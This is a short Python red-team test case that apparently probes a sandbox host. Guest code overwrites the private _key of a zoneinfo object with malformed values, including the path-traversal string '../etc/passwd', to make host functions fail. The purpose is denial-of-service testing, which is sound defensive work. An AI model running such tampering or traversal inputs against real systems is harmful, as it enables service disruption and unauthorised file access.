# technique: the state of a module that is written as guest code is the guest's to change
# source: own red team, library/zoneinfo.py
# goal: make the host's functions fail on what they do not expect
# impact: dos
import datetime
import zoneinfo

zone = zoneinfo.ZoneInfo("Europe/Berlin")
for key in (5, "Nowhere", None, "", zone, "../etc/passwd"):
    zone._key = key
    try:
        print(datetime.datetime(2024, 1, 1, tzinfo=zone).utcoffset())
    except (ValueError, TypeError) as error:
        print(error)
